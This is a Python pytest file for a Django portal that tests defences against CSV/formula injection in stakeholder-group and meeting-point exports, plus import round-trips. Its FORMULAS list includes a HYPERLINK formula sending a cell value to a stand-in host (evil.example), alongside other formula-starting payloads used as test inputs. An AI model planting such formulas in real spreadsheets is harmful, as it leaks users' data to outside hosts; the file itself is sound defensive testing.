"""Text that a spreadsheet would run as a formula leaves every export as text (OWASP "CSV injection").

A CSV cell starting with = + - @, a tab or a carriage return gets a leading quote;
an XLSX cell holds it as a text cell, never a formula. The import takes back what
the export added, so that an exported file imports back unchanged.
"""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from meetings.models import MeetingStatus
from pmqa_portal.spreadsheets import FORMULA_STARTS, csv_text, csv_value, xlsx_cell
from stakeholders import services
from stakeholders.models import StakeholderGroup
from tests.factories import (
    DiscussionPointFactory,
    LeadQuestionFactory,
    ListeningChannelFactory,
    NeedFactory,
    StakeholderGroupFactory,
)
from tests.meetings.summary_helpers import meeting_in

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"คลิก")', "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1"]


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes):
    return [cell for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for cell in row]


def assert_no_formula_in_the_sheet_xml(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


# --- the shared functions ---


@pytest.mark.parametrize("value", [*FORMULAS, "'=1", "''-1", "-", "=", "'"])
def test_a_csv_value_reads_back_as_it_was(value):
    assert csv_text(csv_value(value)) == value
    assert not str(csv_value(value)).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["เกษตรกร", "a-b", "1+1", "'quoted", "user@example.com", ""])
def test_ordinary_text_is_left_alone(value):
    assert csv_value(value) == value
    assert csv_text(value) == value


def test_numbers_stay_numbers():
    sheet = Workbook(write_only=True).create_sheet()
    assert csv_value(-1) == -1 and csv_value(2.5) == 2.5
    assert xlsx_cell(sheet, -1).data_type == "n"


@pytest.mark.parametrize("value", [*FORMULAS, "#N/A", "#REF!"])
def test_an_xlsx_cell_holds_formula_like_text_as_text(value):
    cell = xlsx_cell(Workbook(write_only=True).create_sheet(), value)
    assert (cell.value, cell.data_type) == (value, "s")


# --- stakeholder groups ---


@pytest.fixture
def formula_groups(agency_a):
    """Groups whose every typed field starts like a formula, with such needs and channels, and a subgroup."""
    groups = []
    for index, formula in enumerate(FORMULAS):
        group = StakeholderGroupFactory(
            agency=agency_a,
            name=formula.strip() + f" {index}",
            description=formula,
            segmentation_basis=formula,
            services=formula,
            order=index,
        )
        NeedFactory(group=group, description=formula)
        ListeningChannelFactory(group=group, description=formula)
        groups.append(group)
    StakeholderGroupFactory(agency=agency_a, parent=groups[0], name="ลูก")
    return groups


def group_export(client, file_format, agency):
    response = client.get(reverse("stakeholders:group_export", args=[file_format]), {"agency": agency.pk})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_groups_csv_quotes_every_cell_that_starts_like_a_formula(client_for, officer_a, agency_a,
                                                                    formula_groups):  # fmt: skip
    rows = csv_cells(group_export(client_for(officer_a), "csv", agency_a))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert "'" + '=HYPERLINK("http://evil.example/?q="&A1,"คลิก") 0' in cells  # the subgroup's parent path


def test_the_groups_xlsx_holds_no_formula(client_for, officer_a, agency_a, formula_groups):
    content = group_export(client_for(officer_a), "xlsx", agency_a)
    assert_no_formula_in_the_sheet_xml(content)
    cells = xlsx_cells(content)
    assert all(cell.data_type != "f" for cell in cells)
    for formula in FORMULAS:
        matching = [cell for cell in cells if cell.value == formula]
        assert matching and all(cell.data_type == "s" and cell.quotePrefix for cell in matching)


def test_a_control_character_in_a_description_does_not_break_the_xlsx(client_for, officer_a, agency_a):
    StakeholderGroupFactory(agency=agency_a, name="เกษตรกร", description="กด\x07ระฆัง")
    cells = xlsx_cells(group_export(client_for(officer_a), "xlsx", agency_a))
    assert "กดระฆัง" in [cell.value for cell in cells]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_file_imports_back_unchanged(client_for, officer_a, agency_a, file_format):
    # Names and texts as typed; the import collapses white space, so none starts with a tab here.
    texts = ["=1+1", "+66 81 234 5678", "-ด้านพืช", "@ผู้นำชุมชน", "'=already quoted", "''-two quotes", "-"]
    parent = StakeholderGroupFactory(agency=agency_a, name="=ราก", description="=SUM(1,2)", order=0)
    for index, text in enumerate(texts):
        StakeholderGroupFactory(agency=agency_a, parent=parent, name=text, description=text, services=text,
                                segmentation_basis=text, order=index)  # fmt: skip
    content = group_export(client_for(officer_a), file_format, agency_a)
    uploaded = SimpleUploadedFile(f"groups.{file_format}", content)
    assert services.groups_import(agency=agency_a, fiscal_year=2551, uploaded_file=uploaded, by=officer_a) == 8
    copies = StakeholderGroup.objects.filter(fiscal_year=2551)
    copied = {group.name: group for group in copies.select_related("parent")}
    assert set(copied) == {"=ราก", *texts}
    assert copied["=ราก"].description == "=SUM(1,2)"
    for text in texts:
        group = copied[text]
        assert (group.description, group.services, group.segmentation_basis) == (text, text, text)
        assert group.parent.name == "=ราก"
    response = client_for(officer_a).get(copied["=1+1"].get_absolute_url())
    assert response.status_code == 200
    assert "=1+1" in response.content.decode()


# --- the meeting's points ---


@pytest.fixture
def formula_meeting(facilitator, agency_a):
    meeting = meeting_in(MeetingStatus.NOTES_CLOSED, facilitator=facilitator, agencies=[agency_a])
    question = LeadQuestionFactory(meeting=meeting, order=1, text="=ถามอะไร")
    for order, formula in enumerate(FORMULAS):
        DiscussionPointFactory(meeting=meeting, lead_question=question, agency=agency_a, text=formula, order=order)
    return meeting


def test_the_points_csv_quotes_every_cell_that_starts_like_a_formula(client_for, observer, formula_meeting):
    response = client_for(observer).get(reverse("meetings:points_csv", args=[formula_meeting.pk]))
    header, *rows = csv_cells(response.content)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert sorted(row[3] for row in rows) == sorted("'" + formula for formula in FORMULAS)


def test_the_points_xlsx_holds_no_formula(client_for, observer, formula_meeting):
    response = client_for(observer).get(reverse("meetings:points_xlsx", args=[formula_meeting.pk]))
    assert_no_formula_in_the_sheet_xml(response.content)
    cells = xlsx_cells(response.content)
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell for cell in cells if cell.column == 4 and cell.row > 1]
    assert sorted(cell.value for cell in texts) == sorted(FORMULAS)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
